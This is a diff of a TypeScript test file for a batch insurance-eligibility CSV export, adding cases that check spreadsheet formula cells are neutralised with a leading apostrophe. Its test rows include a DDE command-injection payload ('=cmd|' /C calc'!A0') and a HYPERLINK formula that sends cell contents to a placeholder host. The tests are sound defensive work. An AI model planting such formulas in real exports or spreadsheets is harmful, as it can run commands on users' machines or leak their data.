@@ -1,9 +1,11 @@
-// The CSV download of a batch's results (一括照会) is byte-for-byte what it was when every row was
-// decoded into objects first: checked against a frozen copy of that code (`reference` below, taken
-// verbatim from routes.ts before the direct path) on hand-made rows of every kind and on generated ones.
+// The CSV download of a batch's results (一括照会) is byte-for-byte what it would be with every row
+// decoded into objects first and written by csv-stringify with the formula rule (platform/csv.ts):
+// checked against a frozen copy of that code (`reference` below, from routes.ts before the direct
+// path, its line writer now csv-stringify itself) on hand-made rows of every kind and on generated ones.
 
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
+import { stringify } from 'csv-stringify/sync';
 import { decodeAnswer, decodeInput, encodeAnswer, encodeInput, RS } from './codec.ts';
 import { CSV_COLUMNS, csvHeader, csvOfPage, type ByteResultPage } from './results-csv.ts';
 import type { BatchResultRow, BatchRowInput, RowAnswer } from './service.ts';
@@ -15,12 +17,12 @@ const REF_COLUMNS = [
   'name', 'nameKana', 'sex', 'relationship', 'insurerName', 'qualifiedFrom', 'lostOn', 'copayRate', 'paperCardExpiresOn',
 ];
 
-function refCsvValues(r: BatchResultRow): string[] {
+function refCsvValues(r: BatchResultRow): (string | number)[] {
   const a = r.answer as Record<string, any>;
   const m = (a.member ?? {}) as Record<string, unknown>;
   const s = (v: unknown) => (v === undefined || v === null ? '' : String(v));
   return [
-    String(r.row),
+    r.row,
     s(r.input.insurerNumber),
     s(r.input.symbol),
     s(r.input.number),
@@ -43,16 +45,9 @@ function refCsvValues(r: BatchResultRow): string[] {
   ];
 }
 
-const REF_NEEDS_QUOTES = /[",\n\r]/;
-
-function refCsvLine(values: readonly string[]): string {
-  let line = '';
-  for (let i = 0; i < values.length; i++) {
-    const v = values[i];
-    if (i > 0) line += ',';
-    line += REF_NEEDS_QUOTES.test(v) ? `"${v.replaceAll('"', '""')}"` : v;
-  }
-  return `${line}\n`;
+/** csv-stringify's own formula rule (a string cell starting with = + - @ TAB CR, or their full-width forms, gets a leading '), CR and LF quoted. */
+function refCsvLine(values: readonly (string | number)[]): string {
+  return stringify([values as (string | number)[]], { record_delimiter: '\n', escape_formulas: true, quote_record_delimiter: true });
 }
 
 /** Stored rows: blocks of encoded texts, each from its first row on. */
@@ -140,6 +135,12 @@ const rows: [BatchRowInput | undefined, Record<string, unknown>][] = [
   [{ insurerNumber: '', symbol: '', number: '', branch: '', birthDate: '', asOf: '' }, { ...noSuch, asOf: '' }],
   [card, { result: 'valid', asOf: '2024-11-25', member: {} }], // odd shapes: JSON
   [card, { result: 'invalid', asOf: null, reason: null, message: null }],
+  // Formula cells: the facility's own input echoed, and answer values.
+  [{ ...card, symbol: '=1+1', number: '@2', branch: "=cmd|' /C calc'!A0", birthDate: '=HYPERLINK("http://x.example/?"&A1,"y")' }, noSuch],
+  [{ ...card, symbol: '+1', number: '-1', branch: '\t=1', birthDate: '\r=1' }, noSuch],
+  [{ ...card, symbol: '＝1', number: '－1' }, valid({ name: '=1+1', nameKana: '@SUM(A1)', insurerName: '-2', address: '+3' })],
+  [{ ...card, number: '7777' }, { ...lost, message: '=evil', details: { lostOn: '@x' } }],
+  [{ ...card, number: '7777' }, { ...lost, details: { lostOn: '=a,"b"' } }],
 ];
 
 type Listed = readonly [BatchRowInput | undefined, Record<string, unknown>][];
@@ -209,7 +210,7 @@ describe('results.csv', () => {
       23,,,,,,,error,,ONSHI_CONFIRMATION_INVALID_INPUT,"is required; bad, ""digits""",,,,,,,,,
       24,,,,,,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
       25,06139901,"""q""","a,b","x
-      y","
+      y","'
       ",2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
       26,06139901,,ab,00,1980-04-01,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
       27,06139901,12,12,00,1980-04-01,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
@@ -219,6 +220,12 @@ describe('results.csv', () => {
       31,,,,,,,invalid,no_such_member,,No such member.,,,,,,,,,
       32,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,,,,,,,,,
       33,06139901,12,3456,00,1980-04-01,,invalid,,,,,,,,,,,,
+      34,06139901,'=1+1,'@2,'=cmd|' /C calc'!A0,"'=HYPERLINK(""http://x.example/?""&A1,""y"")",2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
+      35,06139901,'+1,'-1,'	=1,"'
+      =1",2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
+      36,06139901,'＝1,'－1,00,1980-04-01,2024-11-25,valid,,,,'=1+1,'@SUM(A1),male,self,'-2,2020-04-01,,0.3,
+      37,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,'=evil,,,,,,,'@x,,
+      38,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,"'=a,""b""",,
       "
     `);
   });
@@ -227,7 +234,7 @@ describe('results.csv', () => {
     // Mostly values the compact form can hold (CSV's special characters included); now and then a
     // reserved character, which makes the row's JSON form.
     const text = fc.oneof(
-      { arbitrary: fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r', ' ', 'ア', '0', '.', '-'), maxLength: 6 }), weight: 6 },
+      { arbitrary: fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r', ' ', 'ア', '0', '.', '-', '=', '+', '@', '\t', '＝', '＠', "'"), maxLength: 6 }), weight: 6 },
       { arbitrary: fc.constantFrom('06139901', '2024-11-25', '山田　太郎', ''), weight: 6 },
       { arbitrary: fc.string({ maxLength: 6 }), weight: 1 },
       { arbitrary: fc.string({ unit: fc.constantFrom('a', ',', '\u0001', '\u0002', '\u001e', '\u001f'), maxLength: 3 }), weight: 1 },
